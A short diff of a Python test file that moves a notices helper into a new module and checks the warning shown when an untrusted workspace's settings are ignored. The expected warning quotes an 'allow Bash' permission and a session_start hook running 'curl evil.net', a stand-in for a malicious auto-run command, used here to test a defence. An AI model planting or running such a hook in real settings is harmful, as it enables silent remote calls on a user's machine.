@@ -9,7 +9,7 @@ import msgspec
 import pytest
 
 from actors.errors import BadConfiguration
-from actors.settings import config, trust, workspace_files
+from actors.settings import brought, config, trust, workspace_files
 from actors.settings.saved_rules import remember
 from actors.settings.workspace_files import Hook, Hooks
 
@@ -200,8 +200,8 @@ def test_where_nobody_can_be_asked_the_notice_names_what_is_left_out(home: Path,
     path = brings(workspace)
     settings = load(home, workspace)
 
-    told = config.notices(settings)
-    at_terminal = config.notices(msgspec.structs.replace(settings, interactive=True))
+    told = brought.notices(settings)
+    at_terminal = brought.notices(msgspec.structs.replace(settings, interactive=True))
 
     assert told == (
         f"{path} was not trusted by you, so this does not count: allow Bash; hook session_start: curl evil.net. "
